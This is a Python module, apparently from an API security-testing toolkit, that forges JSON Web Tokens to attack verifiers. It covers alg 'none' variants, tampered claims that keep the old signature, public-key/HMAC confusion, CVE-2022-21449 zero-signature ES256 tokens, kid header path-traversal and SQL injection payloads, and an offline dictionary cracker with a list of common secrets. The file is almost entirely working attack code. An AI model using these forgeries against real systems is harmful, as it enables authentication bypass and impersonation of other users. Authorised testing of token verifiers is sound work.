"""Byte-exact JWT forging. PyJWT refuses to build most attack tokens (and must, as a verifier), so
headers and payloads are serialised here with compact JSON and signed with hmac/cryptography directly
(../shared/reference/api_probes.md §6.3). Existing segments are reused verbatim where the attack keeps them."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

ALG_NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")


def b64u(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64u_decode(s: str) -> bytes:
    return base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))


def compact(obj: Any) -> bytes:
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False).encode("utf-8")


def split(token: str) -> tuple[dict[str, Any], dict[str, Any], str, str, str]:
    h, p, s = token.split(".")
    return json.loads(b64u_decode(h)), json.loads(b64u_decode(p)), h, p, s


def unsigned(header: dict[str, Any], payload_segment: str) -> str:
    """alg none: the header re-serialised, the original payload segment kept, an empty signature."""
    return f"{b64u(compact(header))}.{payload_segment}."


def alg_none_tokens(token: str) -> list[str]:
    head, _, _, p, _ = split(token)
    out = [unsigned({**head, "alg": a}, p) for a in ALG_NONE_SPELLINGS]
    out.append(unsigned({**head, "alg": ""}, p))
    return out


def stripped(token: str) -> str:
    h, p, _ = token.split(".")
    return f"{h}.{p}."


def truncated(token: str) -> str:
    return token[:-4]


def bit_flipped(token: str) -> str:
    h, p, s = token.split(".")
    sig = bytearray(b64u_decode(s))
    sig[len(sig) // 2] ^= 0x01
    return f"{h}.{p}.{b64u(bytes(sig))}"


def tampered(token: str, **claims: Any) -> str:
    """New claims, the old signature kept: accepted only if the signature is not verified."""
    _, payload, h, _, s = split(token)
    return f"{h}.{b64u(compact({**payload, **claims}))}.{s}"


# Claims that differ between any two tokens of one person: never the caller's identity.
NON_IDENTITY_CLAIMS = frozenset({"iat", "exp", "nbf", "jti", "auth_time", "sid", "nonce", "at_hash"})


def flat_claims(payload: dict[str, Any], prefix: str = "") -> dict[str, Any]:
    """Leaf claims by dotted path (``user.id``), so nested identity claims can be compared and swapped."""
    out: dict[str, Any] = {}
    for k, v in payload.items():
        path = f"{prefix}{k}"
        if isinstance(v, dict):
            out.update(flat_claims(v, path + "."))
        else:
            out[path] = v
    return out


def identity_claims(token_a: str, token_b: str) -> list[str]:
    """The claims that tell two identities apart (``sub``, ``user_id``, ``uid``, ``vin``, nested ones): leaves
    whose values differ between their tokens, time and session claims aside."""
    a, b = flat_claims(split(token_a)[1]), flat_claims(split(token_b)[1])
    return sorted(k for k in a.keys() & b.keys() if a[k] != b[k] and k.split(".")[-1] not in NON_IDENTITY_CLAIMS)


def tampered_paths(token: str, values: dict[str, Any]) -> str:
    """Set claims by dotted path, the old signature kept."""
    import copy

    _, payload, h, _, s = split(token)
    payload = copy.deepcopy(payload)
    for path, value in values.items():
        node = payload
        *parents, leaf = path.split(".")
        for part in parents:
            node = node.setdefault(part, {})
        node[leaf] = value
    return f"{h}.{b64u(compact(payload))}.{s}"


def hs_sign(header: dict[str, Any], payload: dict[str, Any], key: bytes, alg: str = "HS256") -> str:
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    signing_input = f"{b64u(compact({**header, 'alg': alg}))}.{b64u(compact(payload))}"
    return f"{signing_input}.{b64u(hmac.new(key, signing_input.encode(), digest).digest())}"


def hs_resign_segments(h: str, p: str, key: bytes) -> str:
    """HS256 over existing raw segments (keeps the exact bytes, e.g. the RFC 7515 A.1 CRLFs)."""
    return f"{h}.{p}.{b64u(hmac.new(key, f'{h}.{p}'.encode(), hashlib.sha256).digest())}"


def public_key_encodings(pem: bytes) -> dict[str, bytes]:
    """The forms a server may use as an HMAC secret by mistake (RS/ES -> HS key confusion)."""
    from cryptography.hazmat.primitives import serialization

    key = serialization.load_pem_public_key(pem)
    spki = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    der = key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    forms = {"spki_pem": spki, "spki_pem_no_newline": spki.rstrip(b"\n"), "spki_der_base64": base64.b64encode(der)}
    try:
        pkcs1 = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
        forms["pkcs1_pem"] = pkcs1
        forms["pkcs1_der_base64"] = base64.b64encode(
            key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.PKCS1))
    except ValueError:  # EC keys have no PKCS#1 form
        pass
    return forms


def key_confusion_tokens(token: str, public_pem: bytes) -> dict[str, str]:
    head, payload, *_ = split(token)
    return {name: hs_sign({**head}, payload, secret) for name, secret in public_key_encodings(public_pem).items()}


def rsa_sign(header: dict[str, Any], payload: dict[str, Any], private_key: Any) -> str:
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import padding

    signing_input = f"{b64u(compact({**header, 'alg': 'RS256'}))}.{b64u(compact(payload))}"
    sig = private_key.sign(signing_input.encode(), padding.PKCS1v15(), hashes.SHA256())
    return f"{signing_input}.{b64u(sig)}"


def es256_sign(header: dict[str, Any], payload: dict[str, Any], private_key: Any) -> str:
    """ES256 with the JWS (P1363) signature encoding r || s."""
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

    signing_input = f"{b64u(compact({**header, 'alg': 'ES256'}))}.{b64u(compact(payload))}"
    r, s = decode_dss_signature(private_key.sign(signing_input.encode(), ec.ECDSA(hashes.SHA256())))
    return f"{signing_input}.{b64u(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


def rsa_public_jwk(private_key: Any, kid: str = "probe") -> dict[str, Any]:
    nums = private_key.public_key().public_numbers()
    return {"kty": "RSA", "kid": kid, "use": "sig", "alg": "RS256",
            "n": b64u(nums.n.to_bytes((nums.n.bit_length() + 7) // 8, "big")),
            "e": b64u(nums.e.to_bytes((nums.e.bit_length() + 7) // 8, "big"))}


def psychic_es256(token: str) -> str:
    """CVE-2022-21449: an ES256 token whose P1363 signature is r = s = 0 (64 zero bytes)."""
    head, _, _, p, _ = split(token)
    return f"{b64u(compact({**head, 'alg': 'ES256'}))}.{p}.{b64u(bytes(64))}"


KID_INJECTIONS = (("../../../../../../../dev/null", b""), ("/dev/null", b""), ("x' UNION SELECT '1';--", b"1"))


def kid_tokens(token: str) -> list[tuple[str, str]]:
    head, payload, *_ = split(token)
    return [(kid, hs_sign({**head, "kid": kid}, payload, key)) for kid, key in KID_INJECTIONS]


COMMON_SECRETS = (
    "secret", "secret123", "changeme", "password", "123456", "12345678", "admin", "jwt", "jwtsecret", "jwt_secret",
    "your-256-bit-secret", "your_jwt_secret", "mysecret", "supersecret", "secretkey", "secret_key", "key", "test",
    "testing", "default", "qwerty", "letmein", "token", "auth", "authsecret", "hmac", "hs256", "private", "s3cr3t",
    "P@ssw0rd", "changeit", "development", "dev", "prod", "production", "example", "demo", "vehicle", "car",
    "telematics", "tsp", "iov", "connectedcar", "mysupersecretkey", "ThisIsMySecretKey", "0", "1", "",
)


@dataclass(frozen=True)
class CrackResult:
    secret: str | None
    tried: int
    seconds: float
    complete: bool  # every candidate was tried (a search cut by its time limit proves nothing)

    @property
    def per_second(self) -> float:
        return self.tried / self.seconds if self.seconds > 0 else 0.0


def crack_hs(token: str, words: Iterable[str] = COMMON_SECRETS, time_budget_s: float = 60.0) -> CrackResult:
    """Offline dictionary attack on an HS* token (no request is sent): the standard library's HMAC in a tight
    loop. The time limit only stops a runaway search; a search it stops reports ``complete = False``."""
    import time

    head, _, h, p, s = split(token)
    alg = str(head.get("alg", ""))
    t0 = time.monotonic()
    if alg not in ("HS256", "HS384", "HS512"):
        return CrackResult(None, 0, 0.0, True)
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    target = b64u_decode(s)
    msg = f"{h}.{p}".encode()
    end = t0 + time_budget_s
    new, eq = hmac.new, hmac.compare_digest
    tried = 0
    for tried, w in enumerate(words, 1):
        if eq(new(w.encode(), msg, digest).digest(), target):
            return CrackResult(w, tried, time.monotonic() - t0, True)
        if tried % 8192 == 0 and time.monotonic() > end:
            return CrackResult(None, tried, time.monotonic() - t0, False)
    return CrackResult(None, tried, time.monotonic() - t0, True)
